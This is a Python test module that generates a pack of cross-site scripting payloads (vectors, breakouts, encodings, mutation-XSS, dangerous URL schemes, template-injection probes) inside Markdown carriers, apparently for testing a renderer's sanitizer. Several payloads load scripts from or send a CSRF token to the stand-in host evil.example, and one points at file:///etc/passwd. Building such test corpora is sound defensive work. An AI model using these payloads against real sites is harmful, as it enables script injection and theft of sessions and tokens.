"""Makes the pack of attacks in `attack_pack.jsonl`: `python -m tests.browser.attack_pack > tests/browser/attack_pack.jsonl`.

What runs (`VECTORS`), where it breaks out of (`BREAKOUTS`), how it is spelt (`SPELLINGS`), which Markdown carries it (`CARRIERS`), and
addresses that run (`schemes`). `{n}` becomes the number of the attack; each that runs calls `pwned` or one of the functions that the
tests listen to.
"""

from __future__ import annotations

import base64
import html
import json
import sys
import urllib.parse
from collections.abc import Callable, Iterator
from itertools import product
from pathlib import Path

PACK = Path(__file__).with_suffix(".jsonl")

VECTORS = (
    "<script>pwned({n})</script>",
    "<script>alert({n})</script>",
    "<script type=module>pwned({n})</script>",
    "<script src=data:,pwned({n})></script>",
    "<script src=//evil.example/{n}.js></script>",
    "<script nonce>pwned({n})</script>",
    "<script>fetch('/?{n}')</script>",
    "<script>import('data:text/javascript,pwned({n})')</script>",
    "<img src=x onerror=pwned({n})>",
    "<img src=x onerror=alert`{n}`>",
    "<img src=x:x onerror=self['pwned']({n})>",
    "<img src onerror=print({n})>",
    "<img srcset=x onerror=pwned({n})>",
    "<image src=x onerror=pwned({n})>",
    "<picture><source srcset=x><img onerror=pwned({n}) src=x></picture>",
    "<svg onload=pwned({n})>",
    "<svg><script>pwned({n})</script></svg>",
    "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=pwned({n}) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=pwned({n}) /></svg>#x'>",
    "<svg><a href=javascript:pwned({n})><text y=20>klik</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=pwned({n})></foreignObject></svg>",
    "<math><a href=javascript:pwned({n})>klik</a></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:pwned({n})>klik</maction></math>",
    "<iframe src=javascript:parent.pwned({n})></iframe>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'></iframe>",
    "<iframe onload=pwned({n})></iframe>",
    "<iframe src=//evil.example/{n}></iframe>",
    "<frameset onload=pwned({n})><frame src=x></frameset>",
    "<object data=javascript:pwned({n})></object>",
    "<object onerror=pwned({n}) data=x></object>",
    "<embed src=javascript:pwned({n})>",
    "<body onload=pwned({n})>",
    "<body onhashchange=pwned({n})>",
    "<html onmouseover=pwned({n})>",
    "<details open ontoggle=pwned({n})>x</details>",
    "<input autofocus onfocus=pwned({n})>",
    "<button popovertarget=x onclick=pwned({n})>klik</button>",
    "<div popover id=x onbeforetoggle=pwned({n})>x</div>",
    "<select autofocus onfocus=pwned({n})>",
    "<textarea autofocus onfocus=pwned({n})>",
    "<keygen autofocus onfocus=pwned({n})>",
    "<video src=x onerror=pwned({n})></video>",
    "<video><source onerror=pwned({n})></video>",
    "<audio src=x onerror=pwned({n})></audio>",
    "<marquee onstart=pwned({n})>x</marquee>",
    "<dialog open onclose=pwned({n})>x</dialog>",
    "<style onload=pwned({n})></style>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=pwned({n})>x</b>",
    "<link rel=stylesheet href=data:, onload=pwned({n})>",
    "<link rel=preload as=script href=//evil.example/{n}.js>",
    "<link rel=import href=//evil.example/{n}>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned({n})'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href=//evil.example/{n}/>",
    "<form action=javascript:pwned({n})><button>kirim</button></form>",
    "<form action=//evil.example/{n}><input name=csrf_token></form>",
    "<button form=aksi formaction=javascript:pwned({n})>klik</button>",
    "<input type=image src=x onerror=pwned({n})>",
    "<isindex action=javascript:pwned({n}) type=submit>",
    "<a href=javascript:pwned({n})>klik</a>",
    "<a href=x onmouseover=pwned({n})>klik</a>",
    "<a href=x ping=//evil.example/{n}>klik</a>",
    "<a href=data:text/html,<script>opener.pwned({n})</script>>klik</a>",
    "<area href=javascript:pwned({n}) shape=default>",
    "<b contenteditable autofocus tabindex=1 onfocus=pwned({n})>x</b>",
    "<b style='background:url(javascript:pwned({n}))'>x</b>",
    "<b style='position:fixed;inset:0;z-index:99'>menutupi {n}</b>",
    "<table background=javascript:pwned({n})><tr><td>x</table>",
    "<xss onpointerrawupdate=pwned({n}) onscrollend=pwned({n}) tabindex=1 autofocus onfocus=pwned({n})>x</xss>",
    "<template shadowrootmode=open><img src=x onerror=pwned({n})></template>",
    "<noscript><img title='</noscript><img src=x onerror=pwned({n})>'></noscript>",
)
# What a text may stand in, and how it would get out of it.
BREAKOUTS = (
    '">', "'>", "`>", "-->", "--!>", "]]>", "?>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>",
    "</select>", "</option></select>", "</svg>", "</math>", "</iframe>", "</xmp>", "</noembed>", "</code></pre>", "</a>", "</h1></main>",
    "</form>", "</button>", "</table>", "</details>", "</label>", '\\">', '"/*', "*/-->", '" autofocus onfocus=pwned({n}) x="',
    "' autofocus onfocus=pwned({n}) x='", '" onmouseover="pwned({n})', "x onerror=pwned({n}) ", "');pwned({n});//", '");pwned({n});//',
    "\\');pwned({n});//", "${pwned({n})}", "`;pwned({n});//", "</script><script>pwned({n})//", "\u2028pwned({n})//", "\u2029pwned({n})//",
    "\r\n\r\n<html><body>", "\\u003c/script\\u003e", "{{constructor.constructor('pwned({n})')()}}", "{{7*7}}", "{%print(7*7)%}",
    "{{config}}", "{{''.__class__.__mro__}}", "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "@(7*7)", "%(x)s%(seconds)d", "{0.__class__}",
)  # fmt: skip


def _mixed(text: str) -> str:
    return "".join(char.upper() if n % 2 else char.lower() for n, char in enumerate(text))


def _around_name(text: str, odd: str) -> str:
    """`odd` behind the name of the first element, where browsers and filters have disagreed about what is white space."""
    name = next((n for n, char in enumerate(text[1:], 1) if not char.isalnum()), len(text))
    return text[:name] + odd + text[name:]


SPELLINGS: tuple[Callable[[str], str], ...] = (
    str.upper,
    _mixed,
    lambda text: html.escape(text),
    lambda text: html.escape(html.escape(text)),
    lambda text: text.replace("<", "&#60;").replace(">", "&#62;"),
    lambda text: text.replace("<", "&#x3c;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "&#0000060").replace(">", "&#0000062"),
    lambda text: text.replace("<", "&LT;").replace(">", "&GT"),
    lambda text: urllib.parse.quote(text, safe="{}"),
    lambda text: urllib.parse.quote(urllib.parse.quote(text, safe="{}"), safe="{}"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\u2039").replace(">", "\u203a"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("<", "\ufeff<"),
    lambda text: text.replace("<", "\u202e<"),
    lambda text: _around_name(text, "/"),
    lambda text: _around_name(text, "\t"),
    lambda text: _around_name(text, "\n"),
    lambda text: _around_name(text, "\x0c"),
    lambda text: _around_name(text, "\u00a0"),
    lambda text: _around_name(text, "\u3000"),
    lambda text: _around_name(text, "\x0b"),
    lambda text: text[:2] + "\x00" + text[2:],
    lambda text: text[:3] + "\u00ad" + text[3:],
    lambda text: text.rstrip(">"),
    lambda text: text + "<!--",
    lambda text: "<!--<" + text + ">-->",
    lambda text: "<![CDATA[" + text + "]]>",
    lambda text: "<?xml ?>" + text,
    lambda text: "\\" + text.replace(">", "\\>"),
    lambda text: text.replace("pwned", "pw\\u006eed"),
    lambda text: text.replace("(", "&lpar;").replace(")", "&rpar;"),
    lambda text: base64.b64encode(text.encode()).decode(),
)
CARRIERS = (
    "{0}", "[{0}](https://contoh.go.id)", "[klik](https://contoh.go.id \"{0}\")", "[klik](https://contoh.go.id/{0})", "[klik](<{0}>)",
    "![{0}](https://contoh.go.id/x.png)", "![x](https://contoh.go.id/x.png '{0}')", "[klik][r]\n\n[r]: https://contoh.go.id '{0}'",
    "[{0}]\n\n[{0}]: https://contoh.go.id", "<{0}>", "# {0}", "## x {{#{0}}}", "> {0}", "- {0}", "- [ ] {0}", "1. x\n\n    {0}",
    "| a | b |\n|---|---|\n| {0} | x |", "`{0}`", "`` {0} ``", "```\n{0}\n```", "```{0}\nx\n```", "~~~html\n{0}\n~~~", "    {0}",
    "x[^1]\n\n[^1]: {0}", "x[^{0}]\n\n[^{0}]: y",
    "!!! note \"{0}\"\n    {0}", "> [!NOTE]\n> {0}", "**{0}**", "*x {0} y*", "~~{0}~~",
    "@{0}", "#{0}", "https://contoh.go.id/?{0}", "www.contoh.go.id/{0}", "surel@contoh.go.id{0}", "<div>{0}</div>",
    "<details>{0}</details>",
    "<div markdown=1>\n{0}\n</div>", "Istilah\n: {0}", "*[ASN]: {0}\n\nASN", "x {{: {0} }}", "<!-- {0} -->", "<b\n{0}", "&lt;{0}&gt;",
)  # fmt: skip
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned({n})&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=pwned({n})></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned({n})>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned({n})>'>",
    "<svg><style><!--</style><img src=x onerror=pwned({n})>--></style>",
    "<svg><desc><style><a title='</style><img src=x onerror=pwned({n})>'></desc></svg>",
    "<svg><title><style><a title='</style><img src=x onerror=pwned({n})>'>",
    "<svg><foreignObject><p><style><a title='</style><img src=x onerror=pwned({n})>'>",
    "<math><annotation-xml encoding='text/html'><style><img title='</style><img src=x onerror=pwned({n})>'>",
    "<math><annotation-xml encoding=text/html><script>pwned({n})</script></annotation-xml></math>",
    "<select><style></select><img src=x onerror=pwned({n})></style>",
    "<select><template><img src=x onerror=pwned({n})></template></select>",
    "<table><caption><svg><style></table><img src=x onerror=pwned({n})></style>",
    "<noscript><style></noscript><img src=x onerror=pwned({n})></style>",
    "<noembed><img title='</noembed><img src=x onerror=pwned({n})>'>",
    "<noframes><style></noframes><img src=x onerror=pwned({n})></style>",
    "<xmp><p title='</xmp><img src=x onerror=pwned({n})>'>",
    "<plaintext><img src=x onerror=pwned({n})>",
    "<listing>&lt;img onerror=pwned({n}) src=x&gt;</listing>",
    "<textarea><img title='</textarea><img src=x onerror=pwned({n})>'>",
    "<title><img title='</title><img src=x onerror=pwned({n})>'>",
    "<style><img title='</style><img src=x onerror=pwned({n})>'>",
    "<iframe><img title='</iframe><img src=x onerror=pwned({n})>'>",
    "<script><!--<script></script>--><img src=x onerror=pwned({n})></script>",
    "<p id='&#x3c;img src=x onerror=pwned({n})&#x3e;'>x</p>",
    "<p title=`<img src=x onerror=pwned({n})>`>x</p>",
    "<a title='`'><img alt='`onerror=pwned({n}) src=x'></a>",
    "<img alt='<x' title='/><img src=x onerror=pwned({n})>'>",
    "<b <script>pwned({n})//</script>0</script></b>",
    "<<b><script>pwned({n})</script>",
    "<scr<script>ipt>pwned({n})</scr</script>ipt>",
    "<im<img>g src=x onerror=pwned({n})>",
    "<img src='x' 'onerror=pwned({n})'>",
    "<img src=x onerror\n=\npwned({n})\n>",
    "<img src=x/onerror=pwned({n})>",
    "<img/src='x'onerror=pwned({n})>",
    "<a/href='javascript:pwned({n})'/x>klik</a>",
    "<h1><table><tr><style></h1><img src=x onerror=pwned({n})></style>",
    "<dl><dd><svg><p><style><g title='</style><img src=x onerror=pwned({n})>'>",
    "<ol><li><math><mi><table><mglyph><svg><mtext><style><path id='</style><img onerror=pwned({n}) src>'>",
    "<details><summary><form><input name=attributes onfocus=pwned({n}) autofocus></summary></details>",
    "<form id=x><input name=innerHTML><input name=firstChild></form><img src=x onerror=pwned({n})>",
    "<a id=trustedTypes></a><a id=trustedTypes name=createPolicy href=x>{n}</a>",
    "<img name=getElementById><img name=currentScript src=data:,pwned({n})>",
    "<a id=csrf-token name=content href='//evil.example/{n}'>x</a>",
    "<input form=aksi name=on value={n}>",
    "<div data-composer data-preview-url=//evil.example/{n} data-place=x>x</div>",
    "<a data-more href=//evil.example/{n}>lagi</a><section data-later>x</section>",
)
SCHEMES = (
    "javascript:pwned({n})", "JaVaScRiPt:pwned({n})", " javascript:pwned({n})", "\tjavascript:pwned({n})", "java\tscript:pwned({n})",
    "java\nscript:pwned({n})", "java\rscript:pwned({n})", "java\x00script:pwned({n})", "\x01javascript:pwned({n})",
    "\u00a0javascript:pwned({n})", "\ufeffjavascript:pwned({n})", "java&#9;script:pwned({n})", "java&Tab;script:pwned({n})",
    "javascript&colon;pwned({n})", "javascript&#58;pwned({n})", "&#106;avascript:pwned({n})", "&#x6A;avascript:pwned({n})",
    "%6Aavascript:pwned({n})", "javascript%3Apwned({n})", "javascript://contoh.go.id/%0Apwned({n})",
    "javascript:/*--></title>*/pwned({n})",
    "jav\\ascript:pwned({n})", "\\javascript:pwned({n})", "javascript\\:pwned({n})", "ja\u00advascript:pwned({n})",
    "ｊavascript:pwned({n})",
    "vbscript:pwned({n})", "livescript:pwned({n})", "mocha:pwned({n})", "data:text/html,<script>opener.pwned({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQoMSk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=pwned({n})>",
    "data:,pwned({n})", "blob:https://contoh.go.id/{n}", "filesystem:https://contoh.go.id/{n}", "file:///etc/passwd#{n}",
    "view-source:javascript:pwned({n})", "feed:javascript:pwned({n})", "jar:javascript:pwned({n})", "about:blank#{n}", "intent:#{n}",
    "ms-word:ofe|u|//evil.example/{n}", "//evil.example/{n}", "\\\\evil.example\\{n}", "http:javascript:pwned({n})",
)  # fmt: skip
LINKS = (
    "[klik]({0})", "[klik](<{0}>)", "![x]({0})", "<{0}>", "[klik][r]\n\n[r]: {0}", "[r]: <{0}>\n\n[r]", "<a href=\"{0}\">klik</a>",
    "<a href='{0}'>klik</a>", "<img src=\"{0}\">", "{0}",
)  # fmt: skip


SOME = (VECTORS[0], VECTORS[8], VECTORS[15])  # a script, an image, an SVG
CARRIED = (*SOME, '"onmouseover="pwned({n})', "javascript:pwned({n})")


def _carried(carrier: str, text: str) -> str:
    return carrier.replace("{0}", text).replace("{{", "{").replace("}}", "}")


def _raw() -> Iterator[str]:
    yield from (*VECTORS, *BREAKOUTS, *MUTATIONS)
    yield from (breakout + vector for breakout, vector in product(BREAKOUTS[:32], (*SOME, VECTORS[35])))
    yield from (spelling(vector) for spelling, vector in product(SPELLINGS, (*SOME, VECTORS[25], VECTORS[61])))
    yield from (_carried(carrier, text) for carrier, text in product(CARRIERS, CARRIED))
    yield from (link.replace("{0}", scheme) for link, scheme in product(LINKS, SCHEMES))


def attacks() -> list[str]:
    """Every attack once, each with its own number in it."""
    return [text.replace("{n}", str(n)) for n, text in enumerate(dict.fromkeys(_raw()))]


def stored() -> list[str]:
    """The pack as it is kept: what was found dangerous once stays in it, however the generator changes."""
    return [json.loads(line) for line in PACK.read_text().splitlines()]


if __name__ == "__main__":
    for attack in attacks():
        sys.stdout.write(json.dumps(attack) + "\n")
